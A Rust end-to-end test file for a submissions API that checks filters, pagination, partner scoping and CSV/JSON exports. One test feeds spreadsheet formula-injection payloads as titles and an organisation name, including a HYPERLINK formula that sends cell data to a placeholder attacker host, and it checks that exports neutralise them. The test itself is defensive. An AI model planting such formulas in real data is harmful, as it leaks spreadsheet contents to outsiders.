//! Lists, filters, cursors and exports of submissions, and what a partner limited to action lines sees.

use serde_json::{Value, json};
use wsis_e2e::{e2e_test, header, json as body_json, problem};

use crate::submissions::{created, pledge, project, setup, submit, travel};

e2e_test! {
    fn lists_filter_paginate_and_export(app) {
        let (_, org) = setup(&app);
        let owner = travel(&app, "2025-02-05T10:00:00Z");
        app.staff("staff@example.org");
        let staff = app.sign_in("staff@example.org", wsis_e2e::PASSWORD);
        let mut ids = Vec::new();
        for (i, lines) in [["C3", "C4"], ["C4", "C5"], ["C3", "C9"]].iter().enumerate() {
            let mut p = project(&format!("Library project {i}"));
            p["action_lines"] = json!(lines);
            let (id, _) = created(&app, &owner, &org, "stocktaking", p);
            submit(&app, &owner, &id);
            ids.push(id);
        }
        let (pledge_id, _) = created(&app, &owner, &org, "trust_fund", pledge());
        submit(&app, &owner, &pledge_id);
        let (draft, _) = created(&app, &owner, &org, "trust_fund", pledge());
        let list = |token: &str, query: &str| {
            let response = app.send(app.client.get(app.url(&format!("/api/v1/submissions?{query}"))).bearer_auth(token));
            let link = header(&response, "link");
            let body = body_json(response);
            let ids: Vec<String> = body["items"].as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap().to_owned()).collect();
            (ids, body["next_cursor"].clone(), link)
        };
        assert_eq!(list(&staff.access, "track=stocktaking").0.len(), 3);
        assert_eq!(list(&staff.access, "action_line=C3").0, [ids[2].clone(), ids[0].clone()], "newest first");
        assert_eq!(list(&staff.access, "action_line=C5&action_line=C9").0.len(), 2, "repeated values mean OR");
        assert_eq!(list(&staff.access, "action_line=C3&sdg=4").0.len(), 2, "different filters mean AND");
        assert_eq!(list(&staff.access, "country=KE").0.len(), 4);
        assert_eq!(list(&staff.access, "region=africa&stakeholder_category=civil_society").0.len(), 4);
        assert_eq!(list(&staff.access, "region=europe").0.len(), 0);
        assert_eq!(list(&staff.access, "q=LIBRARY project 1").0, [ids[1].clone()]);
        assert_eq!(list(&staff.access, "status=draft").0.len(), 0, "staff never see drafts");
        assert_eq!(list(&owner.access, "status=draft").0, std::slice::from_ref(&draft));
        assert_eq!(list(&staff.access, "call=wsis-2025&updated_since=2025-02-05T10:00:00Z").0.len(), 4);
        assert_eq!(list(&staff.access, "updated_since=2025-02-06T00:00:00Z").0.len(), 0);

        // Cursor pagination: pages of two, following Link, with nothing missed or repeated.
        let (first, cursor, link) = list(&owner.access, "limit=2");
        assert_eq!(first.len(), 2);
        assert!(link.starts_with("</api/v1/submissions?limit=2&cursor=") && link.ends_with(">; rel=\"next\""), "{link}");
        let mut seen = first.clone();
        let mut cursor = cursor;
        while let Some(c) = cursor.as_str().map(str::to_owned) {
            let (page, next, _) = list(&owner.access, &format!("limit=2&cursor={c}"));
            seen.extend(page);
            cursor = next;
        }
        let mut expected: Vec<String> = ids.iter().cloned().chain([pledge_id.clone(), draft.clone()]).collect();
        expected.sort();
        seen.sort();
        assert_eq!(seen, expected);
        for bad in ["limit=0", "limit=201", "cursor=nonsense", "colour=blue", "track=lottery", "sdg=18", "call=wsis-1999", "updated_since=yesterday", "region=europe&country=FR"] {
            let response = app.send(app.client.get(app.url(&format!("/api/v1/submissions?{bad}"))).bearer_auth(&staff.access));
            problem(response, 422, "validation_failed");
        }

        // Exports: submitted entries only, as RFC 4180 CSV with a header row, or JSON.
        let csv = app.send(app.client.get(app.url("/api/v1/submissions/export?format=csv&track=stocktaking")).bearer_auth(&staff.access));
        assert_eq!(header(&csv, "content-type"), "text/csv; charset=utf-8; header=present");
        let text = csv.text().unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(reader.headers().unwrap().get(1), Some("receipt_number"));
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 3);
        assert!(text.contains("\r\n"), "CRLF line ends");
        let content: Value = serde_json::from_str(&rows[0][15]).unwrap();
        assert_eq!(content["title"], "Library project 2", "quotes inside JSON survive the CSV round trip");
        let json_export = body_json(app.send(app.client.get(app.url("/api/v1/submissions/export?format=json")).bearer_auth(&staff.access)));
        assert_eq!(json_export.as_array().unwrap().len(), 4, "never drafts");
        assert_eq!(json_export[0]["region"], "africa");
        let lines = app.send(app.client.get(app.url("/api/v1/submissions/export?format=jsonl")).bearer_auth(&staff.access));
        assert_eq!(header(&lines, "content-type"), "application/x-ndjson");
        let lines: Vec<Value> = lines.text().unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines, json_export.as_array().unwrap().clone(), "the same entries, one per line");
        let default = app.send(app.client.get(app.url("/api/v1/submissions/export")).bearer_auth(&staff.access));
        assert_eq!(header(&default, "content-type"), "text/csv; charset=utf-8; header=present", "CSV unless asked, as the repository export");
        problem(app.send(app.client.get(app.url("/api/v1/submissions/export?format=xml")).bearer_auth(&staff.access)), 422, "validation_failed");
        problem(app.send(app.client.get(app.url("/api/v1/submissions/export")).bearer_auth(&owner.access)), 403, "forbidden");
    }
}

e2e_test! {
    fn a_partner_limited_to_action_lines_sees_only_those(app) {
        let (_, org) = setup(&app);
        let owner = travel(&app, "2025-02-05T10:00:00Z");
        app.staff("staff@example.org");
        let staff = app.sign_in("staff@example.org", wsis_e2e::PASSWORD);
        let mut c3 = project("Libraries");
        c3["action_lines"] = json!(["C3"]);
        let (about_c3, _) = created(&app, &owner, &org, "stocktaking", c3);
        let mut c5 = project("Security");
        c5["action_lines"] = json!(["C5"]);
        let (about_c5, _) = created(&app, &owner, &org, "stocktaking", c5);
        submit(&app, &owner, &about_c3);
        submit(&app, &owner, &about_c5);
        let created = body_json(app.send(app.client.post(app.url("/api/v1/admin/api-clients")).bearer_auth(&staff.access).json(
            &json!({"name": "UNESCO portal", "agency": "UNESCO", "scopes": ["submissions:read"], "action_lines": ["C3"]}),
        )));
        let tokens = body_json(app.send(app.client.post(app.url("/api/v1/auth/token")).form(&[
            ("grant_type", "client_credentials"),
            ("client_id", created["client"]["client_id"].as_str().unwrap()),
            ("client_secret", created["client_secret"].as_str().unwrap()),
        ])));
        let token = tokens["access_token"].as_str().unwrap();
        let listed = body_json(app.send(app.client.get(app.url("/api/v1/submissions")).bearer_auth(token)));
        let ids: Vec<&str> = listed["items"].as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap()).collect();
        assert_eq!(ids, [about_c3.as_str()]);
        assert_eq!(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{about_c3}"))).bearer_auth(token)).status().as_u16(), 200);
        problem(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{about_c5}"))).bearer_auth(token)), 404, "not_found");
    }
}

e2e_test! {
    fn exports_stream_every_entry_and_neutralise_spreadsheet_formulas(app) {
        app.verified_user("owner@example.org");
        let owner = travel(&app, "2025-02-05T10:00:00Z");
        let org = app.organisation(&owner, "=HYPERLINK(\"http://evil.example\",\"Org\")");
        let staff = app.staff("staff@example.org");
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"];
        for (i, title) in hostile.iter().enumerate() {
            let (id, _) = created(&app, &owner, &org, "stocktaking", project(title));
            assert_eq!(submit(&app, &owner, &id).status().as_u16(), 200, "{i}");
            let decided = app.send(app.client.post(app.url(&format!("/api/v1/submissions/{id}/decision"))).bearer_auth(&staff.access).json(&json!({"decision": "accept"})));
            assert_eq!(decided.status().as_u16(), 200);
        }
        let cells = |path: &str, column: &str| -> Vec<String> {
            let text = app.send(app.client.get(app.url(path)).bearer_auth(&staff.access)).text().unwrap();
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let at = reader.headers().unwrap().iter().position(|h| h == column).unwrap();
            reader.records().map(|r| r.unwrap().get(at).unwrap().to_owned()).collect()
        };
        let titles = cells("/api/v1/stocktaking/projects/export?format=csv", "title");
        let mut expected: Vec<String> = hostile.iter().map(|t| format!("'{t}")).collect();
        let mut got = titles.clone();
        expected.sort();
        got.sort();
        assert_eq!(got, expected, "each kept as text behind a quote");
        for path in ["/api/v1/stocktaking/projects/export", "/api/v1/submissions/export?format=csv"] {
            let names = cells(path, "organisation_name");
            assert_eq!(names.len(), hostile.len(), "{path}");
            assert!(names.iter().all(|n| n.starts_with("'=HYPERLINK")), "{path}: {names:?}");
        }
        // JSON carries the text unchanged.
        let json_export = body_json(app.send(app.client.get(app.url("/api/v1/stocktaking/projects/export?format=json"))));
        let titles: Vec<&str> = json_export.as_array().unwrap().iter().map(|p| p["title"].as_str().unwrap()).collect();
        assert!(titles.contains(&hostile[0]), "{titles:?}");

        // Thousands of entries stream in pages that join without a gap or a repeat, in every format.
        let now = wsis_domain::Clock::now(app.clock.as_ref());
        wsis::demo::seed(&app.database, 1005, now, &|_| {}).unwrap();
        let export = |format: &str| app.send(app.client.get(app.url(&format!("/api/v1/submissions/export?format={format}"))).bearer_auth(&staff.access)).text().unwrap();
        let array: Value = serde_json::from_str(&export("json")).unwrap();
        let mut ids: Vec<&str> = array.as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap()).collect();
        assert_eq!(ids.len(), 1011);
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 1011, "no entry twice");
        assert_eq!(export("jsonl").lines().count(), 1011);
        let csv_text = export("csv");
        assert_eq!(csv::Reader::from_reader(csv_text.as_bytes()).records().count(), 1011);
    }
}

e2e_test! {
    fn an_organisation_filter_is_an_organisation_id(app) {
        let (owner, org) = setup(&app);
        let staff = app.staff("staff@example.org");
        for path in ["/api/v1/stocktaking/projects", "/api/v1/stocktaking/projects/export"] {
            for bad in ["", "not-an-id", "0193a0c5-1b2c-7d3e-8f40"] {
                let body = problem(app.get(&format!("{path}?organisation={bad}")), 422, "validation_failed");
                assert_eq!(body["errors"][0]["field"], "organisation", "{path} {bad}");
            }
            let fine = app.get(&format!("{path}?organisation={org}"));
            assert_eq!(fine.status().as_u16(), 200, "{path}");
        }
        for session in [&owner, &staff] {
            let listed = app.send(app.client.get(app.url("/api/v1/submissions?organisation=nope")).bearer_auth(&session.access));
            problem(listed, 422, "validation_failed");
            let listed = app.send(app.client.get(app.url(&format!("/api/v1/submissions?organisation={org}"))).bearer_auth(&session.access));
            assert_eq!(listed.status().as_u16(), 200);
        }
    }
}

e2e_test! {
    fn a_previewed_call_has_no_ids(app) {
        let call = json!({
            "slug": "preview-2030", "year": 2030, "timezone": "UTC",
            "title": {"ar": "x", "zh": "x", "en": "x", "fr": "x", "ru": "x", "es": "x"},
            "tracks": [{"kind": "trust_fund", "opens": {"rule": "start_of_local_day", "date": "2030-01-01"}, "closes": {"rule": "end_of_local_day", "date": "2030-02-01"}}]
        });
        let preview = body_json(app.send(app.client.post(app.url("/api/v1/calls:preview")).json(&call)));
        assert_eq!(preview["id"], Value::Null);
        assert_eq!(preview["tracks"][0]["id"], Value::Null, "an id is a UUID or nothing");
    }
}

e2e_test! {
    fn without_credentials_a_listing_is_401_whatever_its_query(app) {
        for path in [
            "/api/v1/submissions?country=&limit=0",
            "/api/v1/submissions?nonsense=1",
            "/api/v1/submissions/export?format=xml&track=nope",
        ] {
            let response = app.send(app.client.get(app.url(path)));
            assert_eq!(response.status().as_u16(), 401, "{path}");
            assert!(!wsis_e2e::header(&response, "www-authenticate").is_empty(), "{path}");
        }
    }
}
